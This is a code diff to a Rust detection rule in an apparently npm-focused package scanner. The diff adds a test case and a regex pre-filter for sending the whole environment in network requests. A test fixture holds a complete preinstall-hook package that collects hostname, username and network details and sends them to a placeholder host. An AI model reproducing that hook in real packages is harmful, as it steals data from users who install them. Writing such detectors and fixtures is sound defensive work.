@@ -27,7 +27,8 @@ crate::declare_rule! {
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node index.js\"}}\n=== index.js\nconst os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), p: os.platform() }); https.get('https://c.example/?d=' + d)"],
     pass: ["spawn('node', ['build.js'], { env: process.env, stdio: 'inherit' }); console.log(JSON.stringify({ ok: true }))",
            "const https = require('https'); function run(cmd) { return execa(cmd, [], { env: process.env }) } https.get(u, cb); run('ls')",
-           "const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })"],
+           "const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })",
+           "const https = require('https'); function ship(d) { return fetch(LOGS, { method: 'POST', body: d }) } ship(process.env.HOME); fetch('https://x.example/', { body: process.env.LANG })"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -147,6 +148,13 @@ fn check(pkg: &Package, out: &mut Emitter) {
 fn env_in_request(f: &crate::package::FileCtx) -> Option<u32> {
     let text = &f.text;
     if !text.contains("process.env") || !super::has_network(f) {
+        return None;
+    }
+    // Both searches below end with this alternative (the whole environment as a value), so a
+    // text without it cannot match either: most files only read `process.env.NAME`, and the
+    // wrapper search is the costliest pattern of the rule on large bundles.
+    let whole_env = crate::regex!(r"[:,(]\s*process\.env\s*[,})]|\.\.\.process\.env\b");
+    if !whole_env.is_match(text) {
         return None;
     }
     static DIRECT: std::sync::LazyLock<crate::rules::gate::Re> = std::sync::LazyLock::new(|| {
